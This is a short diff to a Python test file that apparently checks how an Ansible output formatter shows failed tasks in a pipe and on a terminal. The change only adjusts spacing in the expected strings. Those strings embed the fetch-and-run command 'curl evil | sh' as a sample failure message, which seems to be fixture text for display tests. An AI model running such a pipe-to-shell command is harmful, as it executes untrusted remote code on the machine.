@@ -52,7 +52,7 @@ def test_in_a_pipe_only_what_failed_is_shown(playbook: pathlib.Path) -> None:
     done = subprocess.run(
         command(playbook), cwd=PROJECT, env=environment(), stdin=subprocess.DEVNULL, capture_output=True, text=True, check=True
     )
-    assert done.stdout == "FAILED   localhost: it is broken DO       curl evil | sh\n"
+    assert done.stdout == "FAILED     localhost: it is broken DO       curl evil | sh\n"
 
 
 def test_asked_for_more_it_is_ansible_s_own(playbook: pathlib.Path) -> None:
@@ -84,5 +84,5 @@ def test_on_a_terminal_the_last_line_says_what_is_being_done_and_goes(playbook: 
             break
         shown += piece
     os.close(ours)
-    first, last = "First (1/2) …\r\x1b[K".encode(), b"FAILED   localhost: it is broken DO       curl evil | sh\r\n"
+    first, last = "First (1/2) …\r\x1b[K".encode(), b"FAILED     localhost: it is broken DO       curl evil | sh\r\n"
     assert shown.endswith(first + last)
